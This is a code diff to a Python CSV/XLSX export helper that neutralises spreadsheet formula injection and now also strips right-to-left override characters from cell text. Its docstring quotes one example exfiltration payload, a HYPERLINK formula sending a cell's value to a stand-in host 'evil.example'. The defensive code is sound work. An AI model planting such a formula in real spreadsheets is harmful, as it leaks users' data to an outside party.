@@ -4,7 +4,9 @@ addresses, column names of an upload) is shown by Excel and LibreOffice but neve
 A text starting with `=`, `+`, `-`, `@`, tab or carriage return would be read as a formula
 (`=HYPERLINK("http://evil.example/?x="&A1,"Klik")` in a person's name). In a CSV such a text
 gets a leading apostrophe, which spreadsheet programs take as "this is text"; in an XLSX it is
-written as a string cell with the quote-prefix style, which shows it unchanged.
+written as a string cell with the quote-prefix style, which shows it unchanged. Direction
+controls (a right-to-left override) are taken out of every text (`bot.bidi`): a CSV row
+is one line in a text editor, and the override would turn the cells after it around.
 
     writer.writerow(csv_row(values))
     sheet.append(xlsx_row(sheet, values))
@@ -15,6 +17,7 @@ from __future__ import annotations
 from collections.abc import Iterable
 from typing import TYPE_CHECKING, Any
 
+from bot.bidi import without_controls
 from bot.rules.households import looks_like_formula
 
 if TYPE_CHECKING:
@@ -28,12 +31,16 @@ def is_formula_like(value: object) -> bool:
 
 def csv_row(values: Iterable[Any]) -> list[Any]:
     """The values of a CSV row, formula-like texts behind an apostrophe."""
-    return [f"'{value}" if is_formula_like(value) else value for value in values]
+    return [f"'{value}" if is_formula_like(value) else value for value in map(_cleaned, values)]
 
 
 def xlsx_row(sheet: _WorkbookChild, values: Iterable[Any]) -> list[Any]:
     """The values of a worksheet row for `sheet.append`, formula-like texts as quoted strings."""
-    return [_text_cell(sheet, value) if is_formula_like(value) else value for value in values]
+    return [_text_cell(sheet, value) if is_formula_like(value) else value for value in map(_cleaned, values)]
+
+
+def _cleaned(value: Any) -> Any:
+    return without_controls(value) if isinstance(value, str) else value
 
 
 def _text_cell(sheet: _WorkbookChild, value: str) -> Any:
